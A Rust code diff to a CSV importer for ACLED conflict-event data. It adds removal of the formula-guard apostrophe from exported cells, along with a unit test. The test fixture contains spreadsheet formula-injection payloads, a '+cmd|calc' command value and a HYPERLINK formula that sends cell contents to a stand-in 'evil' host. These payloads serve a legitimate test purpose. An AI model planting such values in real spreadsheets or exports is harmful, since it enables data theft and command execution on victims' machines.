@@ -16,6 +16,7 @@
 //! | `source_scale`, `timestamp` | report attributes; `timestamp` is also `published` |
 //! | every other column | incident attributes, verbatim (empty values left out) |
 
+use chronicle_plugin_sdk::safe::unguard_formula;
 use chrono::{DateTime, Datelike};
 
 use super::{province, MapContext, Mapped, Row};
@@ -91,6 +92,10 @@ fn date(row: &Row<'_>) -> Result<IncidentDate, Invalid> {
 
 /// Maps one ACLED row.
 pub fn map(row: &Row<'_>, ctx: &MapContext<'_>) -> Result<Mapped, Invalid> {
+    // chronicle's csv export puts `'` before cells a spreadsheet would run as formulas
+    // (`'=HYPERLINK(…)`): take that guard off, and only it, so a round trip gives the text back.
+    let unguarded: csv::StringRecord = row.record.iter().map(unguard_formula).collect();
+    let row = &Row::new(row.columns, &unguarded);
     let key = row.key("event_id_cnty")?;
     let timestamp_raw = row.raw("timestamp").trim();
     let timestamp: i64 = timestamp_raw
@@ -233,6 +238,30 @@ mod tests {
         assert!(e.problem.contains("did you mean Ghazni"), "{e}");
         let bad = AFG63876.replace("33.1003,68.3116", ",68.3116");
         assert_eq!(map_line(&bad).unwrap_err().field, "latitude");
+    }
+
+    #[test]
+    fn the_formula_guard_of_chronicle_exports_is_taken_off() {
+        let guarded = AFG63876
+            .replace(",Military Forces of Afghanistan (2021-),", ",'+cmd|calc,")
+            .replace(
+                "\"Around 1 January 2022 (month of), 2 former policemen were arrested.\"",
+                "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\"",
+            )
+            .replace(",Afghan Peace Watch,", ",'-source,");
+        let m = map_line(&guarded).unwrap();
+        assert_eq!(m.details.perpetrator.as_deref(), Some("+cmd|calc"));
+        assert_eq!(
+            m.report.note.as_deref(),
+            Some(r#"=HYPERLINK("http://evil/?x="&A1,"click")"#)
+        );
+        assert_eq!(m.report.attributes["source"], "-source");
+        // Only that guard: other apostrophes stay.
+        let quoted = AFG63876.replace(",Pana,", ",'Pana',");
+        assert_eq!(
+            map_line(&quoted).unwrap().details.locality.as_deref(),
+            Some("'Pana'")
+        );
     }
 
     #[test]
